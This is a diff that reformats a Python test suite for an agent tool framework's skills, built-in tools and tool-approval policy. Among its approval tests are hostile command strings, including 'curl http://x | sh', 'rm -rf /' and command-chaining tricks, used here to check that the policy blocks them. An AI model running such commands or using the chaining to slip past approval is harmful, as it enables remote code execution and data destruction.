@@ -32,9 +32,11 @@ def tool_messages(request: Recorded) -> list[dict[str, Any]]:
     return [m for m in request.json["messages"] if m["role"] == "tool"]
 
 
-def calls_then_answer(stub: StubProvider, *turns: list[tuple[str, dict]],
-                      answer: str = "done.") -> None:
+def calls_then_answer(
+    stub: StubProvider, *turns: list[tuple[str, dict]], answer: str = "done."
+) -> None:
     """Request n (from 1) asks for the calls of turns[n-1]; after them, a plain answer."""
+
     def handler(request: Recorded) -> Reply:
         n = len(stub.requests)
         if n <= len(turns):
@@ -97,7 +99,8 @@ async def test_function_file_offers_public_typed_functions_only(tmp_path):
     # the one public function left out is named, with why
     assert [str(w.message) for w in warned] == [
         f"{path}: untyped() has no type hints, so it is not a tool (annotate its "
-        "parameters, or name it _untyped to keep it private)"]
+        "parameters, or name it _untyped to keep it private)"
+    ]
 
     # imported (dumps, Path, json), untyped, private, classes and lambdas are not tools
     assert sorted(t.name for t in toolkit.tools()) == ["add", "shout"]
@@ -148,11 +151,13 @@ async def test_a_function_file_end_to_end_through_the_loop(stub, tmp_path):
     names = {t["function"]["name"] for t in stub.requests[0].json["tools"]}
     assert names == {"add", "shout"}
     assert tool_messages(stub.requests[1]) == [
-        {"role": "tool", "tool_call_id": "call_1", "content": "42"}]
+        {"role": "tool", "tool_call_id": "call_1", "content": "42"}
+    ]
     assert result.text == "It is 42."
 
 
 # ================================================================================ skills
+
 
 def skill_file(root: Path, folder: str, front: str, body: str = "Do the thing.") -> Path:
     return write(root / folder / "SKILL.md", f"---\n{front}\n---\n{body}\n")
@@ -160,22 +165,31 @@ def skill_file(root: Path, folder: str, front: str, body: str = "Do the thing.")
 
 async def test_skills_are_found_in_nested_folders_with_their_front_matter(tmp_path):
     skill_file(tmp_path, "pdf", "name: pdf\ndescription: Fill and read PDF forms")
-    skill_file(tmp_path, "team/deep/release", 'name: release\ndescription: "Cut a release: '
-               'tag, notes"\nlicense: MIT')
+    skill_file(
+        tmp_path,
+        "team/deep/release",
+        'name: release\ndescription: "Cut a release: tag, notes"\nlicense: MIT',
+    )
 
     skills = discover_skills(tmp_path)
     assert sorted((s.name, s.description) for s in skills) == [
-        ("pdf", "Fill and read PDF forms"), ("release", "Cut a release: tag, notes")]
+        ("pdf", "Fill and read PDF forms"),
+        ("release", "Cut a release: tag, notes"),
+    ]
 
 
 def test_a_skill_saved_with_a_bom_and_crlf_line_ends_is_found(tmp_path):
     path = tmp_path / "win" / "SKILL.md"
     path.parent.mkdir()
-    path.write_bytes("---\r\nname: win\r\ndescription: from Notepad\r\n---\r\nSteps.\r\n"
-                     .encode("utf-8-sig"))
+    path.write_bytes(
+        "---\r\nname: win\r\ndescription: from Notepad\r\n---\r\nSteps.\r\n".encode("utf-8-sig")
+    )
     [skill] = discover_skills(tmp_path)
-    assert (skill.name, skill.description, skill.instructions()) == ("win", "from Notepad",
-                                                                     "Steps.")
+    assert (skill.name, skill.description, skill.instructions()) == (
+        "win",
+        "from Notepad",
+        "Steps.",
+    )
 
 
 async def test_a_duplicate_skill_name_keeps_the_first_and_warns(tmp_path):
@@ -259,6 +273,7 @@ def test_skills_prompt_and_tool_work_on_their_own(tmp_path):
 
 # ============================================================================= built-ins
 
+
 @pytest.fixture
 async def builtins(tmp_path):
     toolkit = await create_toolkit(builtins=True, workspace=tmp_path)
@@ -270,8 +285,8 @@ async def test_builtins_are_opt_in_and_can_be_picked(tmp_path):
     assert len(await create_toolkit()) == 0
     everything = await create_toolkit(builtins=True)
     assert sorted(t.name for t in everything.tools()) == sorted(
-        ["read_file", "list_dir", "glob", "grep", "write_file", "edit_file", "bash",
-         "fetch_url"])
+        ["read_file", "list_dir", "glob", "grep", "write_file", "edit_file", "bash", "fetch_url"]
+    )
     assert {t.source for t in everything.tools()} == {"builtin"}
     picked = await create_toolkit(builtins=["read_file", "grep"])
     assert [t.name for t in picked.tools()] == ["read_file", "grep"]
@@ -286,8 +301,11 @@ async def test_read_file_numbers_lines_and_pages(builtins, tmp_path):
     assert whole.output.splitlines()[-1] == "    10\tline 10"
 
     page = await builtins.execute("read_file", {"path": str(path), "offset": 4, "limit": 2})
-    assert page.output.splitlines() == ["     4\tline 4", "     5\tline 5",
-                                        "... 5 more lines (use offset)"]
+    assert page.output.splitlines() == [
+        "     4\tline 4",
+        "     5\tline 5",
+        "... 5 more lines (use offset)",
+    ]
 
 
 async def test_read_file_refuses_binary_and_reports_missing(builtins, tmp_path):
@@ -325,10 +343,13 @@ async def test_grep_prints_file_line_and_text(builtins, tmp_path):
     write(tmp_path / "b.txt", "nothing\n  TODO: later\n")
     write(tmp_path / "node_modules" / "dep.py", "TODO\n")
     result = await builtins.execute("grep", {"pattern": "TODO", "path": str(tmp_path)})
-    assert result.output.splitlines() == [f"{a}:2: TODO = 1",
-                                          f"{tmp_path / 'b.txt'}:2: TODO: later"]
-    only_py = await builtins.execute("grep", {"pattern": "TODO", "path": str(tmp_path),
-                                              "glob": "*.py"})
+    assert result.output.splitlines() == [
+        f"{a}:2: TODO = 1",
+        f"{tmp_path / 'b.txt'}:2: TODO: later",
+    ]
+    only_py = await builtins.execute(
+        "grep", {"pattern": "TODO", "path": str(tmp_path), "glob": "*.py"}
+    )
     assert only_py.output.splitlines() == [f"{a}:2: TODO = 1"]
     one_file = await builtins.execute("grep", {"pattern": "^import", "path": str(a)})
     assert one_file.output == f"{a}:1: import os"
@@ -339,8 +360,9 @@ async def test_grep_prints_file_line_and_text(builtins, tmp_path):
 async def test_grep_searches_inside_a_skipped_folder_when_asked_to(builtins, tmp_path):
     """node_modules is skipped while walking a tree, not when it is the place searched."""
     dep = write(tmp_path / "node_modules" / "dep" / "index.js", "module.exports = 1\n")
-    inside = await builtins.execute("grep", {"pattern": "exports",
-                                             "path": str(tmp_path / "node_modules" / "dep")})
+    inside = await builtins.execute(
+        "grep", {"pattern": "exports", "path": str(tmp_path / "node_modules" / "dep")}
+    )
     assert inside.output == f"{dep}:1: module.exports = 1"
     the_file = await builtins.execute("grep", {"pattern": "exports", "path": str(dep)})
     assert the_file.output == f"{dep}:1: module.exports = 1"
@@ -361,11 +383,11 @@ async def test_edit_file_replaces_one_exact_unique_occurrence(builtins, tmp_path
     assert not ok.is_error
     assert path.read_text() == "x = 1\ny = 3\nx = 1\n"
 
-    twice = await builtins.execute("edit_file", {"path": str(path), "old": "x = 1",
-                                                 "new": "x = 9"})
+    twice = await builtins.execute("edit_file", {"path": str(path), "old": "x = 1", "new": "x = 9"})
     assert twice.is_error and "occurs 2 times" in twice.output
-    missing = await builtins.execute("edit_file", {"path": str(path), "old": "z = 0",
-                                                   "new": "z = 1"})
+    missing = await builtins.execute(
+        "edit_file", {"path": str(path), "old": "z = 0", "new": "z = 1"}
+    )
     assert missing.is_error and "does not occur" in missing.output
     assert path.read_text() == "x = 1\ny = 3\nx = 1\n"  # failed edits change nothing
 
@@ -387,14 +409,14 @@ def spawning(marker: str, started: Path) -> str:
     in their environment so they can be found from outside; `marker` ends in -42, which
     the shell computes, so the command line itself does not hold it."""
     unmarked = marker.removesuffix("-42") + "-$((6*7))"
-    return (f"export TOOLNEXUS_TEST_MARK={unmarked}; sleep 60 & setsid sleep 60 & "
-            f"touch {started}; wait")
+    return (
+        f"export TOOLNEXUS_TEST_MARK={unmarked}; sleep 60 & setsid sleep 60 & touch {started}; wait"
+    )
 
 
 async def test_bash_timeout_kills_the_command_and_its_children(builtins, tmp_path):
     marker, started = f"spawn-{id(tmp_path)}-42", tmp_path / "started"
-    result = await builtins.execute("bash", {"command": spawning(marker, started),
-                                             "timeout": 0.5})
+    result = await builtins.execute("bash", {"command": spawning(marker, started), "timeout": 0.5})
     assert result.output == "killed after 0.5 s (timeout)"
     assert started.exists()
     await eventually(lambda: not running_with(marker), "the processes to die")
@@ -417,8 +439,11 @@ async def test_a_bash_cancelled_while_it_starts_leaves_nothing_running(builtins,
     kills the whole group. (The loop is held on purpose, to be that busy machine.)"""
     name = f"toolnexus-test-{os.getpid()}-{id(tmp_path)}"
     marker, started = f"{name}-42", tmp_path / "started"  # the shell computes the 42
-    task = asyncio.create_task(builtins.execute("bash", {
-        "command": f"(exec -a {name}-$((6*7)) sleep 60) & touch {started}; wait"}))
+    task = asyncio.create_task(
+        builtins.execute(
+            "bash", {"command": f"(exec -a {name}-$((6*7)) sleep 60) & touch {started}; wait"}
+        )
+    )
     while not started.exists():  # the bash runs: the call is starting it (or has)
         await asyncio.sleep(0)
     wait_until(lambda: running_with(marker), "the background child")  # the loop held
@@ -429,8 +454,9 @@ async def test_a_bash_cancelled_while_it_starts_leaves_nothing_running(builtins,
 
 
 async def test_the_output_cap_applies_to_builtins(tmp_path):
-    toolkit = await create_toolkit(builtins=["bash", "read_file"], max_output=1000,
-                                   workspace=tmp_path)
+    toolkit = await create_toolkit(
+        builtins=["bash", "read_file"], max_output=1000, workspace=tmp_path
+    )
     result = await toolkit.execute("bash", {"command": "head -c 5000 /dev/zero | tr '\\0' a"})
     assert result.output.startswith("exit code 0\naaa")
     assert result.output.endswith("[output truncated: 4012 more characters]")
@@ -440,6 +466,7 @@ async def test_the_output_cap_applies_to_builtins(tmp_path):
 
 
 # ============================================================================== approval
+
 
 def named(name: str, source: str = "python"):
     def fn() -> str:
@@ -459,9 +486,18 @@ async def test_default_rules(tmp_path):
     toolkit = await create_toolkit(builtins=True, functions=[mine], skills_dir=tmp_path)
     policy = ApprovalPolicy()
     rules = {t.name: policy.rule_for(t) for t in toolkit.tools()}
-    assert rules == {"read_file": "allow", "list_dir": "allow", "glob": "allow",
-                     "grep": "allow", "fetch_url": "allow", "write_file": "ask",
-                     "edit_file": "ask", "bash": "ask", "mine": "allow", "skill": "allow"}
+    assert rules == {
+        "read_file": "allow",
+        "list_dir": "allow",
+        "glob": "allow",
+        "grep": "allow",
+        "fetch_url": "allow",
+        "write_file": "ask",
+        "edit_file": "ask",
+        "bash": "ask",
+        "mine": "allow",
+        "skill": "allow",
+    }
     assert policy.rule_for(named("github_create_issue", "mcp:github")) == "ask"
     # a Python function that happens to be called "bash" is not the built-in shell
     assert policy.rule_for(named("bash", "python")) == "allow"
@@ -498,8 +534,10 @@ def test_bash_command_globs():
     assert decide("  git status --short") == "allow"
     assert decide("rm -rf build") == "deny"
     assert decide("ls -la") == "ask"  # no command rule: bash's own rule
-    assert ApprovalPolicy({"bash": "allow"}, {"rm *": "deny"}).decide(
-        bash, "bash", {"command": "ls"}) == "allow"
+    assert (
+        ApprovalPolicy({"bash": "allow"}, {"rm *": "deny"}).decide(bash, "bash", {"command": "ls"})
+        == "allow"
+    )
 
 
 def test_an_allowed_command_prefix_does_not_allow_what_is_chained_to_it():
@@ -509,9 +547,16 @@ def test_an_allowed_command_prefix_does_not_allow_what_is_chained_to_it():
     def decide(command: str) -> str:
         return policy.decide(bash, "bash", {"command": command})
 
-    for chained in ("git status; curl http://x | sh", "git status && touch x",
-                    "git status `touch x`", "git status $(touch x)", "git status > out",
-                    "git status\ntouch x", "git status || touch x", "git status & touch x"):
+    for chained in (
+        "git status; curl http://x | sh",
+        "git status && touch x",
+        "git status `touch x`",
+        "git status $(touch x)",
+        "git status > out",
+        "git status\ntouch x",
+        "git status || touch x",
+        "git status & touch x",
+    ):
         assert decide(chained) == "ask", chained
     # a denied command stays denied wherever it appears in a chain
     assert decide("git status; rm -rf /") == "deny"
@@ -526,6 +571,7 @@ def test_an_invalid_decision_is_a_value_error():
 
 
 # -- the hook through a real run
+
 
 class Asker:
     def __init__(self, answer: str) -> None:
@@ -552,8 +598,13 @@ async def touch_toolkit(ran: list[str]):
     return (await create_toolkit()).register(define_tool(touch))
 
 
-async def hooked_run(stub: StubProvider, toolkit: Any, policy: ApprovalPolicy, asker: Asker,
-                     *turns: list[tuple[str, dict]]):
+async def hooked_run(
+    stub: StubProvider,
+    toolkit: Any,
+    policy: ApprovalPolicy,
+    asker: Asker,
+    *turns: list[tuple[str, dict]],
+):
     calls_then_answer(stub, *turns)
     hooks = {"before_tool": approval_hook(policy, toolkit, asker)}
     return await run(stub, toolkit, hooks=hooks)
@@ -572,8 +623,9 @@ async def test_deny_sends_the_model_an_error_without_running(stub):
     ran: list[str] = []
     toolkit = await touch_toolkit(ran)
     asker = Asker("yes")
-    result = await hooked_run(stub, toolkit, ApprovalPolicy({"touch": "deny"}), asker,
-                              [("touch", {"name": "a"})])
+    result = await hooked_run(
+        stub, toolkit, ApprovalPolicy({"touch": "deny"}), asker, [("touch", {"name": "a"})]
+    )
     assert ran == [] and asker.asked == []
     [message] = tool_messages(stub.requests[1])
     assert message["content"] == 'denied by the rule "touch" = "deny" in [approval]: touch'
@@ -584,8 +636,9 @@ async def test_ask_and_yes_runs(stub):
     ran: list[str] = []
     toolkit = await touch_toolkit(ran)
     asker = Asker("yes")
-    await hooked_run(stub, toolkit, ApprovalPolicy({"touch": "ask"}), asker,
-                     [("touch", {"name": "a"})])
+    await hooked_run(
+        stub, toolkit, ApprovalPolicy({"touch": "ask"}), asker, [("touch", {"name": "a"})]
+    )
     assert asker.asked == [("touch", {"name": "a"})]
     assert ran == ["a"]
     assert tool_messages(stub.requests[1])[0]["content"] == "touched a"
@@ -595,8 +648,9 @@ async def test_ask_and_no_tells_the_model_the_user_denied_it(stub):
     ran: list[str] = []
     toolkit = await touch_toolkit(ran)
     asker = Asker("no")
-    result = await hooked_run(stub, toolkit, ApprovalPolicy({"touch": "ask"}), asker,
-                              [("touch", {"name": "a"})])
+    result = await hooked_run(
+        stub, toolkit, ApprovalPolicy({"touch": "ask"}), asker, [("touch", {"name": "a"})]
+    )
     assert asker.asked == [("touch", {"name": "a"})] and ran == []
     [message] = tool_messages(stub.requests[1])
     assert message["content"] == DENIED_BY_USER == "denied by the user"
@@ -607,9 +661,15 @@ async def test_always_asks_once_for_repeated_calls(stub):
     ran: list[str] = []
     toolkit = await touch_toolkit(ran)
     asker = Asker("always")
-    await hooked_run(stub, toolkit, ApprovalPolicy({"touch": "ask"}), asker,
-                     [("touch", {"name": "a"})], [("touch", {"name": "a"})],
-                     [("touch", {"name": "b"})])
+    await hooked_run(
+        stub,
+        toolkit,
+        ApprovalPolicy({"touch": "ask"}),
+        asker,
+        [("touch", {"name": "a"})],
+        [("touch", {"name": "a"})],
+        [("touch", {"name": "b"})],
+    )
     assert len(asker.asked) == 1
     assert ran == ["a", "a", "b"]
 
@@ -617,9 +677,15 @@ async def test_always_asks_once_for_repeated_calls(stub):
 async def test_always_for_bash_covers_that_command_only(stub):
     toolkit = await create_toolkit(builtins=["bash"])
     asker = Asker("always")
-    await hooked_run(stub, toolkit, ApprovalPolicy(), asker,
-                     [("bash", {"command": "echo one"})], [("bash", {"command": "echo one"})],
-                     [("bash", {"command": "echo two"})])
+    await hooked_run(
+        stub,
+        toolkit,
+        ApprovalPolicy(),
+        asker,
+        [("bash", {"command": "echo one"})],
+        [("bash", {"command": "echo one"})],
+        [("bash", {"command": "echo two"})],
+    )
     assert [args["command"] for _, args in asker.asked] == ["echo one", "echo two"]
     outputs = [tool_messages(stub.requests[i])[-1]["content"] for i in (1, 2, 3)]
     assert outputs == ["exit code 0\none\n", "exit code 0\none\n", "exit code 0\ntwo\n"]
@@ -629,13 +695,20 @@ async def test_bash_command_rules_through_a_run(stub):
     toolkit = await create_toolkit(builtins=["bash"])
     asker = Asker("no")
     policy = ApprovalPolicy(commands={"echo *": "allow", "rm *": "deny"})
-    await hooked_run(stub, toolkit, policy, asker,
-                     [("bash", {"command": "echo fine"}), ("bash", {"command": "rm -rf x"}),
-                      ("bash", {"command": "touch x"})])
+    await hooked_run(
+        stub,
+        toolkit,
+        policy,
+        asker,
+        [
+            ("bash", {"command": "echo fine"}),
+            ("bash", {"command": "rm -rf x"}),
+            ("bash", {"command": "touch x"}),
+        ],
+    )
     contents = [m["content"] for m in tool_messages(stub.requests[1])]
     assert contents[0] == "exit code 0\nfine\n"
-    assert contents[1] == ('denied by the rule "rm *" = "deny" in [approval.commands]: '
-                           "rm -rf x")
+    assert contents[1] == ('denied by the rule "rm *" = "deny" in [approval.commands]: rm -rf x')
     assert contents[2] == "denied by the user"
     assert [args["command"] for _, args in asker.asked] == ["touch x"]
 
@@ -644,8 +717,13 @@ async def test_questions_never_overlap(stub):
     ran: list[str] = []
     toolkit = await touch_toolkit(ran)
     asker = Asker("yes")
-    await hooked_run(stub, toolkit, ApprovalPolicy({"touch": "ask"}), asker,
-                     [("touch", {"name": n}) for n in "abc"])
+    await hooked_run(
+        stub,
+        toolkit,
+        ApprovalPolicy({"touch": "ask"}),
+        asker,
+        [("touch", {"name": n}) for n in "abc"],
+    )
     assert len(asker.asked) == 3 and asker.most_in_flight == 1
     assert sorted(ran) == ["a", "b", "c"]
 
@@ -654,7 +732,10 @@ async def test_a_sync_asker_works_too(stub):
     ran: list[str] = []
     toolkit = await touch_toolkit(ran)
     calls_then_answer(stub, [("touch", {"name": "a"})])
-    hooks = {"before_tool": approval_hook(ApprovalPolicy({"touch": "ask"}), toolkit,
-                                          lambda name, args: "yes")}
+    hooks = {
+        "before_tool": approval_hook(
+            ApprovalPolicy({"touch": "ask"}), toolkit, lambda name, args: "yes"
+        )
+    }
     await run(stub, toolkit, hooks=hooks)
     assert ran == ["a"]
